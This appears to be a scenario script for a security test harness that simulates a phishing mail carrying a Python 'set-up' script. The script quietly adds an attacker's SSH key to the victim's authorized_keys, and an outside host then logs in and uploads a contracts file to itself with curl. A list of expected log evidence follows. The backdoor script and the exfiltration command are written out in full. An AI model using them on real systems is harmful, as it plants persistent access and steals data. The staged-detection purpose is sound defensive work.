title="A mailed set-up script lets its sender in by SSH"
what="buyer gets connect-share.py 'for the common folder' in a Maildir and saves it with mutt. buyer runs it with python3 on a terminal: it adds a key to ~/.ssh/authorized_keys and makes no connection. Some minutes later somebody logs in as buyer by SSH from 203.0.113.66, lists the papers and fetches one with curl's upload."
host=mx1.example.org user=buyer daemons="cron sshd"
setup() {
  ssh-keygen -q -t ed25519 -N '' -C share -f "$base/out/akey"
  printf 'set mbox_type=Maildir\nset folder=~/Maildir\nset spoolfile=~/Maildir\n' | install -o buyer /dev/stdin /home/buyer/.muttrc
  documents
  cat > "$base/out/connect-share.py" <<P
import os, pathlib
d = pathlib.Path.home() / '.ssh'
d.mkdir(mode=0o700, exist_ok=True)
with open(d / 'authorized_keys', 'a') as f:
    f.write('$(cat "$base/out/akey.pub")\n')
os.makedirs(os.path.expanduser('~/Common'), exist_ok=True)
print('The common folder is ready.')
P
}
from_outside() { outside ssh -T -q -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o IdentitiesOnly=yes -o BindAddress=203.0.113.66 -i "$base/out/akey" "buyer@$host_ip" "$1" </dev/null; }
act() {
  small_talk 2
  mail_in --from projects@example.net --to buyer@example.org --subject "Common folder for the tender" --source 203.0.113.52 --helo host52.example.net --text "Save connect-share.py and run: python3 connect-share.py\n" --attach "$base/out/connect-share.py:text/x-python"
  wait_log 'from=<projects@example.net>'; wait_for 10 sh -c 'ls /home/buyer/Maildir/new | grep -q .'
  rm -f $(grep -L connect-share /home/buyer/Maildir/new/* 2>/dev/null)
  ssh_as buyer <<'L'
ls contracts
%line mutt
%sleep 2
%keys v
%sleep 1
%keys j
%sleep 1
%keys s
%sleep 1
%keys \n
%sleep 2
%keys q
%sleep 1
%keys q
%sleep 1
python3 connect-share.py
ls -d Common
rm connect-share.py
L
  ssh_run dev 'uptime'
  sleep 2
  from_outside 'id; ls -la; ls contracts'
  from_outside 'curl -s -T contracts/c2.txt http://203.0.113.66/up/'
  small_talk 1
}
truth() {
  mail_step deliver 'to=<buyer@example.org>.*status=sent' 'delivered'
  file_step save 'mutt.* open.*CREATE .*connect-share.py' 'saved'
  exec_step execute 'python3.* connect-share.py' 'run'
  file_step key 'python3.* openat:write .*\.ssh/authorized_keys' 'a key is added'
  log_step login 'Accepted publickey for buyer from 203.0.113.66' 'its owner logs in'
  exec_step take 'curl -s -T contracts/c2.txt' 'and takes a paper'
}
